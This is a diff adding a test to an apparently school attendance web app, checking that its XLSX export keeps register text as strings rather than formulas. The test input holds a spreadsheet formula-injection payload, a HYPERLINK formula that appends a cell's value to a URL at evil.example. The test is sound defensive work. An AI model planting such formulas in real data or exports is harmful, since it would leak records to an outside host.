@@ -115,3 +115,20 @@ async def test_today_without_register_and_on_a_weekend(
     assert "is not a school day here" in weekend.text
     nonsense = await client.get("/school/today?on=not-a-date")
     assert "is not a date" in nonsense.text
+
+
+async def test_xlsx_export_never_turns_register_text_into_formulas(
+    client: httpx.AsyncClient, world: World, jobs: InProcessQueue
+) -> None:
+    rows = [
+        ["UPN", "Legal Surname", "Legal Forename", "24/01/2025 AM", "24/01/2025 PM"],
+        ["A370200124001", '=HYPERLINK("http://evil.example/?"&A3,"Click")', "=1+1", "N", "N"],
+    ]
+    await sign_in(client, "ao.a@test.example")
+    await upload(client, to_csv(rows))
+    await jobs.drain()
+    response = await client.get("/school/today.xlsx")
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    row = next(r for r in sheet.iter_rows(min_row=3) if r[0].value == "A370200124001")
+    assert row[1].data_type == "s" and row[1].value.startswith("=HYPERLINK")
+    assert row[2].data_type == "s" and row[2].value == "=1+1"
